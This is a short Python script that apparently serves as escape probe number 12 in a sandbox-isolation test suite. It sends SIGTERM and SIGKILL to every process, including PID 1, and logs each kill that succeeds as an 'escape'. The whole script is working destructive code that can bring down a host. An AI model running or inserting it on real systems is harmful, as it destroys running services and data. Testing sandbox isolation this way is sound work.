from attaque import *

serve()
import signal

for number in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
for pid in [1, *range(2, 4096), *KNOWN.get("pids", [])]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        if pid != 1:
            escaped(12, f"killed {pid}")
tried(12, "4096 processes")
